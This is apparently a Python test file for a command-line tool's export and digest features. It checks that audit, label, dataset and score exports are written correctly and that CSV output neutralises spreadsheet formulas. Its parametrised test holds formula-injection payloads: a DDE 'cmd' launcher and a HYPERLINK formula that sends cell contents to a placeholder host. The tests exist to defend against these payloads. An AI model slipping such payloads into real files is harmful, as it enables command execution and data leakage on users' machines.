"""`hark export audit|labels|dataset|scores` and `hark digest`: what is stored, as files that other programs read."""

from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from made import DAY, HOUR, NOW, ingest, label, talk

from bot.answers.exporting import write_csv
from bot.cli.main import hark
from traces.model import AuditEntry, EvaluatorFailure, Score
from traces.store import open_store
from traces.store.datasets import DatasetItem


@pytest.fixture
def run(monkeypatch, nobodys_settings):
    """Runs a command on a database with a conversation, a label, a kept case, scores and an audit entry."""
    monkeypatch.setenv("HARK_DATABASE_URL", "sqlite:///hark.db")
    store = open_store("sqlite:///hark.db")
    ingest(store, talk("c-1", "=SUM(A1)", "No."), talk("c-2", "Hi", at=NOW - 5 * DAY))
    with store.begin() as tx:
        tx.state.name_reviewer("U1", "Ann")
        tx.reviews.put_label(label(name="refusal", note="-1", at=NOW))
        tx.reviews.put_label(label(name="refusal", reviewer="U2", at=NOW - 3 * DAY))
        tx.datasets.add(
            DatasetItem(conversation_id="c-1", label="refusal", added_by="U1", added_at=NOW, expected="Of course.")
        )
        outcomes = [Score(name="refusal", value=1.0), EvaluatorFailure(name="policy", reason="timeout", message="late")]
        tx.scores.put({"c-1": outcomes}, NOW)
        tx.audit.add(AuditEntry(at=NOW, actor="U1", action="label", subject="conversation:c-1", after={"value": 1}))
        tx.audit.add(AuditEntry(at=NOW + HOUR, actor="U1", action="label.undo", subject="conversation:c-1"))
    store.close()
    runner = CliRunner()

    def run(*arguments):
        result = runner.invoke(hark, arguments)
        assert result.exit_code == 0, result.output
        return result.stdout

    return run


def lines(text):
    return [json.loads(line) for line in text.splitlines()]


def test_the_audit_trail_is_written_with_names_and_the_chain_of_digests(run):
    first, second = lines(run("export", "audit"))
    assert (first["actor"], first["name"], first["action"], first["after"]) == ("U1", "Ann", "label", {"value": 1})
    assert len(first["digest"]) == len(second["digest"]) == 64
    assert [row["action"] for row in lines(run("export", "audit", "--since", "2026-11-20T10:30:00Z"))] == ["label.undo"]


def test_labels_are_written_as_they_stand(run):
    assert {(row["reviewer_name"], row["conversation_id"], row["name"]) for row in lines(run("export", "labels"))} == {
        ("Ann", "c-1", "refusal"),
        (None, "c-1", "refusal"),
    }
    assert len(lines(run("export", "labels", "--until", "2026-11-18"))) == 1


def test_a_dataset_is_written_as_test_cases(run):
    [case] = lines(run("export", "dataset"))
    assert (case["input"], case["output"], case["expected"], case["label"]) == (
        "=SUM(A1)",
        "No.",
        "Of course.",
        "refusal",
    )
    assert [message["role"] for message in case["messages"]] == ["user", "assistant"]


def test_scores_and_failures_are_written_by_conversation(run):
    rows = {row["name"]: row for row in lines(run("export", "scores"))}
    assert rows["refusal"]["value"] == 1.0
    assert rows["policy"]["failure"] == "timeout"
    assert lines(run("export", "scores", "--until", "2026-11-18")) == []


@pytest.mark.parametrize("what", ["audit", "labels", "dataset", "scores"])
def test_a_spreadsheet_reads_it_and_runs_nothing_of_it(run, what):
    rows = list(csv.DictReader(io.StringIO(run("export", what, "--format", "csv"))))
    assert rows
    assert not any(cell.startswith(("=", "@", "+")) for row in rows for cell in row.values())


BEGINNINGS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    " =",
    "\u00a0+",
    "\x00=",
    "\ufeff=",
    "＝",
    "＋",
    "－",
    "＠",
    "|",
    "%",
]


@pytest.mark.parametrize("beginning", BEGINNINGS, ids=ascii)
@pytest.mark.parametrize("formula", ["cmd|' /C calc'!A0", 'HYPERLINK("https://a.example?"&A1)'])
def test_a_cell_that_begins_like_a_formula_is_text(beginning, formula):
    file = io.StringIO(newline="")
    write_csv(file, ("a", "n"), [{"a": f"{beginning}{formula}", "n": -1.5}])
    assert list(csv.reader(io.StringIO(file.getvalue(), newline="")))[1] == [f"'{beginning}{formula}", "-1.5"]


def test_every_cell_is_quoted():
    file = io.StringIO(newline="")
    write_csv(file, ("a", "b"), [{"a": "plain", "b": 1}])
    assert file.getvalue() == '"a","b"\n"plain","1"\n'


@given(
    st.lists(
        st.dictionaries(st.sampled_from("ab"), st.text() | st.floats(allow_nan=False) | st.none() | st.lists(st.text()))
    )
)
def test_any_rows_are_written_so_that_they_are_read_again(found):
    file = io.StringIO(newline="")
    write_csv(file, ("a", "b"), found)
    read = list(csv.reader(io.StringIO(file.getvalue(), newline="")))
    assert len(read) == len(found) + 1
    for row, written in zip(found, read[1:], strict=True):
        if isinstance(row.get("a"), str):
            assert written[0].removeprefix("'") == row["a"].removeprefix("'")


def test_the_digest_is_told_on_the_command_line(run):
    assert "Daily digest" in run("digest")
    assert json.loads(run("digest", "--weekly", "--json"))["rhythm"] == "weekly"
